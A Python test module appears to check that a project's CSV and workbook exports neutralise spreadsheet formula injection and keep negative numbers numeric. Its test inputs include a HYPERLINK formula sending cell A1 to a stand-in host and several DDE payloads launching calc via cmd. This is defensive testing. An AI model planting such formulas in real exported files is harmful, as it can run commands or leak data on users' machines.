"""IN: words that a spreadsheet would run, and numbers that must stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path

from act import Act, Done
from case import due
from zhibiao.terms.citation import Place
from zhibiao.writers.safe_cell import csv_row, escaped
from zhibiao.writers.split_table import SplitRow, split_csv, split_workbook
from zhibiao.writers.workbook import Column, Sheet, write_workbook

LINK = '=HYPERLINK("http://example.invalid/"&A1,"钢铁公司")'
_AT = dt.datetime(2025, 4, 7, 2, tzinfo=dt.UTC)
_WORDS = {name: name for name in ("id", "group", "share", "quota", "binding", "sheet", "sheet.groups", "sum")}


def exported(name: str, *, note: str = "export.formula_escaped") -> Callable[[Path], Done]:
    """A firm of that name leaves in a .csv and in a workbook; neither holds a live formula, and the note says so."""

    def run(_: Path) -> Done:
        rows = [SplitRow(id=name, share=Fraction(1), quota=Fraction(600), binding="")]
        table = list(csv.reader(io.StringIO(split_csv(rows).decode("utf-8-sig"))))
        book = split_workbook(rows, groups=(), words=_WORDS, title="表", note="", at=_AT, author="")
        faults = [] if table[1][0].startswith("'") else [f"live in the .csv: {table[1][0]!r}"]
        faults += [f"live in the workbook: {one}" for one in formulas_in(book) if name.lstrip("=+-@") in one]
        found = escaped([(Place(file="split.csv", row=2), name)])
        code = found[0].code if found else ""
        return Done(
            outcome="NORMALISE" if code == note else "ACCEPT",
            code=code,
            facts={**found[0].facts, "place": str(found[0].place)} if found else {},
            faults=tuple(faults),
        )

    return run


def formulas_in(content: bytes) -> list[str]:
    """Every formula of a workbook."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [one for sheet in book for row in sheet.iter_rows() for one in row]
    return [str(one.value) for one in cells if one.data_type == "f"]


def negative_number(_: Path) -> Done:
    """A correction of -500 stays a number: bare in the .csv, numeric in the workbook."""
    import openpyxl

    sheet = Sheet(name="表", title="表", columns=(Column(head="吨", kind="whole"),), rows=((-500,),))
    book = openpyxl.load_workbook(io.BytesIO(write_workbook([sheet], title="表", author="", at=_AT, foot="")))
    values = [one.value for row in book.worksheets[0].iter_rows() for one in row]
    faults = [] if -500 in values else [f"the workbook holds {values}"]
    faults += [] if csv_row([-500, Fraction(-1, 2)]) == ["-500", "-0.5"] else ["the .csv marks it"]
    faults += [] if not escaped([(Place(), -500)]) else ["it is told as a formula"]
    return Done(outcome="ACCEPT", faults=tuple(faults))


CASES = (
    Act(id="IN-001", way="export", run=exported(LINK), facts=("place",)),
    Act(id="IN-003", way="export", run=negative_number),
)
TWINS = tuple(
    Act(id=f"IN-002 {word}", way="export", run=exported(name), due=due("NORMALISE", "export.formula_escaped"))
    for word, name in (
        ("plus", "+1+cmd|' /C calc'!A0"),
        ("minus", "-2+3+cmd|' /C calc'!A0"),
        ("at", "@SUM(1+9)*cmd|' /C calc'!A0"),
        ("TAB", "\t=1+1"),
        ("full-width", "＝1+1"),
        ("blank before", " =1+1"),
    )
)
